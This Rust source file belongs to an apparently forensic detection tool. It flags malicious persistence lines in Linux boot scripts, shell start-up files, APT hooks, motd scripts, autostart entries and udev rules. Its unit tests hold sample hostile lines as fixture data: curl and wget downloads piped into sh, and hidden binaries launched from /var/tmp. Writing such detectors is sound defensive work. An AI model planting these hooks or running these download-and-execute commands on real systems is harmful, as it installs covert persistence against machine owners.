//! Boot and login scripts: `/etc/rc.local`, `/etc/init.d/*`, `/etc/rc*.d/*`, `/etc/inittab`,
//! `boot.local`, and the shell start-up files (`/etc/profile`, `/etc/profile.d/*`, `bash.bashrc`,
//! `/etc/environment`, every home's `.bashrc`/`.profile`/...). The lines are the model's persistence
//! entries of kinds `Rc` and `ShellStartup` ([`crate::model::persistence`]; for `inittab`, the process
//! field).
//!
//! - `MT-PER-020` an rc/init line that downloads into a shell, decodes base64, reaches a bare IP or runs
//!   from a temporary or hidden path; an init script named by a family marker (line 0 = the whole file).
//! - `MT-PER-030` the same in a shell start-up file: it runs at every login.
//! - `MT-PER-031` the same in an event hook: `update-motd.d` scripts, APT hook commands, initramfs hooks,
//!   network hooks, XDG autostart entries and the programs of udev rules (kinds `Motd`, `AptHook`,
//!   `Initramfs`, `NetworkHook`, `Autostart`, `Udev`): each runs at an event the owner does not watch (a
//!   login, an `apt update`, a new kernel, a link coming up, a device event — every boot replays those).
//!
//! History tampering and `LD_PRELOAD` lines in these files are reported by `history` and `preload`.

use minetrace_schemas::findings::Finding;
use minetrace_schemas::records::file::FileRecord;

use super::common::{self, Score};
use crate::detect::rules::{self, Rule};
use crate::detect::Context;
use crate::model::persistence::{PersistenceEntry, PersistenceKind};

pub fn detect(ctx: &Context) -> Vec<Finding> {
    let mut out = Vec::new();
    for (file, _, entries) in ctx.model.persistence_files(|k| k == PersistenceKind::Rc) {
        if let Some(family) = common::family_of_path(ctx.iocs, file.path.as_bytes()) {
            let mut score = Score::default();
            score.add(4, format!("init script path matches a {family} marker"));
            score.family = Some(family);
            common::lock_points(file, &mut score);
            out.extend(common::line_finding(
                ctx,
                &rules::PER_020,
                file,
                0,
                b"(whole file)",
                &score,
                None,
            ));
        }
        lines(ctx, file, entries, &rules::PER_020, &mut out);
    }
    for (file, _, entries) in ctx
        .model
        .persistence_files(|k| k == PersistenceKind::ShellStartup)
    {
        lines(ctx, file, entries, &rules::PER_030, &mut out);
    }
    for (file, _, entries) in ctx.model.persistence_files(is_event_hook) {
        lines(ctx, file, entries, &rules::PER_031, &mut out);
    }
    out
}

/// The persistence kinds that run at an event rather than at boot, login shell or on a schedule.
pub fn is_event_hook(kind: PersistenceKind) -> bool {
    matches!(
        kind,
        PersistenceKind::Motd
            | PersistenceKind::AptHook
            | PersistenceKind::Initramfs
            | PersistenceKind::NetworkHook
            | PersistenceKind::Autostart
            | PersistenceKind::Udev
    )
}

fn lines(
    ctx: &Context,
    file: &FileRecord,
    entries: &[PersistenceEntry],
    rule: &Rule,
    out: &mut Vec<Finding>,
) {
    for e in entries {
        let (mut score, shell) = common::score_line(ctx, &e.command);
        common::lock_points(file, &mut score);
        out.extend(common::line_finding(
            ctx,
            rule,
            file,
            e.line,
            &e.raw,
            &score,
            Some(&shell),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicators::Indicators;
    use crate::model::fixture;
    use minetrace_schemas::findings::{Severity, Subject};

    /// The lines MT-PER-031 names, with their severity.
    fn hooks(files: Vec<(&[u8], &[u8])>) -> Vec<(String, u32, Severity)> {
        let model = fixture::model(
            files
                .into_iter()
                .map(|(path, text)| fixture::file(path, Some(text)))
                .collect(),
            vec![],
        );
        let iocs = Indicators::builtin();
        let mut out: Vec<(String, u32, Severity)> = detect(&Context {
            model: &model,
            iocs: &iocs,
        })
        .into_iter()
        .filter(|f| f.rule == rules::PER_031.id)
        .flat_map(|f| {
            let sev = f.severity;
            f.subjects.into_iter().filter_map(move |s| match s.subject {
                Subject::Persistence { path, line } => Some((
                    String::from_utf8_lossy(path.as_bytes()).into_owned(),
                    line,
                    sev,
                )),
                _ => None,
            })
        })
        .collect();
        out.sort();
        out
    }

    #[test]
    fn hook_lines_are_judged_as_boot_lines_are() {
        let found = hooks(vec![
            (
                b"/etc/apt/apt.conf.d/99x",
                b"// sync\nAPT::Update::Pre-Invoke { \"nohup /var/tmp/.apt/kthreadd >/dev/null 2>&1 &\"; };\n\
                  DPkg::Post-Invoke {\"/usr/bin/test -e /usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service && /usr/bin/gdbus call --system\";};\n",
            ),
            (
                b"/etc/update-motd.d/30-sysinfo",
                b"#!/bin/sh\nuname -snrvm\ncurl -fsSL http://127.66.9.2/l.sh | sh &\n",
            ),
            (
                b"/home/u/.config/autostart/x.desktop",
                b"[Desktop Entry]\nTryExec=curl\nExec=/bin/sh -c \"wget -qO- http://127.66.9.2/x | sh\"\n",
            ),
            (
                b"/etc/xdg/autostart/at-spi-dbus-bus.desktop",
                b"[Desktop Entry]\nExec=/usr/libexec/at-spi-bus-launcher --launch-immediately\n",
            ),
        ]);
        let at: Vec<(&str, u32)> = found.iter().map(|(p, l, _)| (p.as_str(), *l)).collect();
        assert_eq!(
            at,
            vec![
                ("/etc/apt/apt.conf.d/99x", 2),
                ("/etc/update-motd.d/30-sysinfo", 3),
                ("/home/u/.config/autostart/x.desktop", 3),
            ],
            "{found:?}"
        );
        assert!(
            found.iter().all(|(_, _, s)| *s >= Severity::High),
            "{found:?}"
        );
    }

    #[test]
    fn udev_rule_programs_are_judged_as_hooks_and_device_tuning_is_not() {
        let found = hooks(vec![
            (
                // A kit's rule in the vendor directory: every boot's add event runs a download into a shell.
                b"/usr/lib/udev/rules.d/75-net-tune.rules",
                b"# tune\nACTION==\"add\", SUBSYSTEM==\"net\", \\\n  RUN+=\"/bin/sh -c 'curl -fsSL http://127.66.9.2/u.sh | sh'\"\n",
            ),
            (
                b"/etc/udev/rules.d/99-zz.rules",
                b"ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"/bin/sh -c '/var/tmp/.font-unix/kudevd &'\"\n",
            ),
            (
                // An admin's and a vendor's rules: scheduler tuning, a backup unit, the distribution's dmsetup.
                b"/etc/udev/rules.d/60-scheduler.rules",
                b"ACTION==\"add|change\", KERNEL==\"sd[a-z]\", RUN+=\"/bin/sh -c 'echo mq-deadline > /sys/block/%k/queue/scheduler'\"\n\
                  ACTION==\"add\", ENV{ID_FS_LABEL}==\"BACKUP\", RUN+=\"/usr/bin/systemd-run --no-block /usr/local/sbin/usb-backup %k\"\n",
            ),
            (
                b"/usr/lib/udev/rules.d/95-dm-notify.rules",
                b"ENV{DM_COOKIE}==\"?*\", RUN+=\"/sbin/dmsetup udevcomplete $env{DM_COOKIE}\"\nTAG==\"uaccess\", RUN{builtin}+=\"uaccess\"\n",
            ),
        ]);
        let at: Vec<(&str, u32)> = found.iter().map(|(p, l, _)| (p.as_str(), *l)).collect();
        assert_eq!(
            at,
            vec![
                ("/etc/udev/rules.d/99-zz.rules", 1),
                ("/usr/lib/udev/rules.d/75-net-tune.rules", 2),
            ],
            "{found:?}"
        );
        // The download into a shell is high; a hidden temp program alone is as an rc line's would be.
        assert!(found
            .iter()
            .any(|(p, _, s)| p.ends_with("75-net-tune.rules") && *s >= Severity::High));
        assert!(
            found.iter().all(|(_, _, s)| *s >= Severity::Medium),
            "{found:?}"
        );
    }
}
